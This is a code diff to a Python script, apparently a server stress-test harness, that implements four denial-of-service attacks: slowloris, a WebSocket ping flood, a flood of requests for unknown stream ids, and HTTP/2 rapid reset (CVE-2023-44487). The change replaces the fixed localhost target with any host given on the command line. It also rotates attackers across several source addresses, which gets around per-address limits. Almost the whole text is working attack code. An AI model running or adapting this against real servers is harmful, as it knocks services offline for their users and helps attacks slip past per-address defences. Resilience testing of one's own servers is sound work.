@@ -1,13 +1,17 @@
-"""The attacks: attacks.py NAME PORT. Prints `ready` at full strength, goes on until a line comes in, then prints what it did."""
+"""The attacks: attacks.py NAME HOST PORT ADDRESS... Each attacker comes from one of the addresses.
+
+Prints `ready` at full strength, goes on until a line comes in, then prints what it did.
+"""
 
 import asyncio
 import base64
+import itertools
 import os
 import resource
 import struct
 import sys
+from functools import partial
 
-HOST = "127.0.0.1"
 tally: dict[str, int] = {}
 # A wait with a timeout may swallow that its task is cancelled: so each attack looks here, too.
 is_over = False
@@ -17,20 +21,20 @@ def note(what: str, count: int = 1) -> None:
     tally[what] = tally.get(what, 0) + count
 
 
-async def again_and_again(attack, port: int) -> None:
+async def again_and_again(attack, connect) -> None:
     """One attacker: comes back each time it is thrown out."""
     while not is_over:
         try:
-            await attack(port)
+            await attack(connect)
         except (OSError, asyncio.IncompleteReadError):
             pass
         note("thrown out")
         await asyncio.sleep(0.1)
 
 
-async def slowloris(port: int) -> None:
+async def slowloris(connect) -> None:
     """A request's head, a byte every second."""
-    reader, writer = await asyncio.open_connection(HOST, port)
+    reader, writer = await connect()
     note("connections")
     ready.count()
     try:
@@ -53,9 +57,9 @@ def frame(payload: bytes, opcode: int) -> bytes:
 PINGS = frame(b"are you there?", 0x9) * 200
 
 
-async def pings(port: int) -> None:
+async def pings(connect) -> None:
     """A viewer that does nothing but ping, as fast as it can."""
-    reader, writer = await asyncio.open_connection(HOST, port)
+    reader, writer = await connect()
     try:
         key = base64.b64encode(os.urandom(16)).decode()
         writer.write(
@@ -83,10 +87,10 @@ WEBP = b"RIFF\x1e\0\0\0WEBPVP8 \x12\0\0\0\x10\x02\x00\x9d\x01\x2a\x40\x00\x30\x0
 next_id = 0
 
 
-async def ids(port: int) -> None:
+async def ids(connect) -> None:
     """Posts, snapshots and viewers of streams that nobody has heard of, 100,000 names at least."""
     global next_id
-    reader, writer = await asyncio.open_connection(HOST, port)
+    reader, writer = await connect()
     ready.count()
     try:
         while not is_over:
@@ -116,9 +120,9 @@ REQUEST = b"\x82\x86\x04\x07/health\x01\x01x"
 HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
 
 
-async def resets(port: int) -> None:
+async def resets(connect) -> None:
     """HTTP/2 streams that are opened and reset at once (CVE-2023-44487)."""
-    reader, writer = await asyncio.open_connection(HOST, port)
+    reader, writer = await connect()
     ready.count()
     note("connections")
     try:
@@ -153,7 +157,8 @@ class Ready:
 
 
 ATTACKS = {"slowloris": (slowloris, 2_000), "pings": (pings, 20), "ids": (ids, 8), "resets": (resets, 20)}
-attack, count = ATTACKS[sys.argv[1]]
+name, host, port, *addresses = sys.argv[1:]
+attack, count = ATTACKS[name]
 ready = Ready(count)
 
 
@@ -162,7 +167,10 @@ async def main() -> None:
     os.nice(19)
     files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
-    attackers = [asyncio.create_task(again_and_again(attack, int(sys.argv[2]))) for _ in range(count)]
+    attackers = [
+        asyncio.create_task(again_and_again(attack, partial(asyncio.open_connection, host, int(port), local_addr=(address, 0))))
+        for address in itertools.islice(itertools.cycle(addresses), count)
+    ]
     # Also when whoever started this is gone.
     word = await asyncio.to_thread(sys.stdin.readline)
     if attack is ids:
